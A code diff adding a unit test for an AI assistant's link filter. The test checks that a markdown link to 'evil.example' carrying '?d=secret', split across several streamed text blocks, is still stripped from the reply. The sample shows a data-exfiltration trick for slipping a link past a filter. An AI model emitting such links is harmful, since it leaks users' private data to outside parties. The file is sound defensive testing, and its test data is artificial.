@@ -82,6 +82,15 @@ describe('a turn with tools', () => {
     );
   });
 
+  it('cannot be cheated by cutting a link into blocks', async () => {
+    conversation = await startConversation();
+    const pieces = ['See [x](ht', 'tps://ev', 'il.example/', '?d=secret) and https:', '//evil.example'];
+    conversation.claude.think([reply(call()), reply(...pieces.map((piece) => says(piece, 0)))]);
+    const { text, events } = await conversation.ask('How?');
+    expect(text).toBe('See x and (link removed)');
+    expect(events.filter(({ type }) => type === 'citation').length).toBeGreaterThan(0);
+  });
+
   it('does not let a link through that somebody else in the thread wrote', async () => {
     conversation = await startConversation();
     conversation.claude.think([
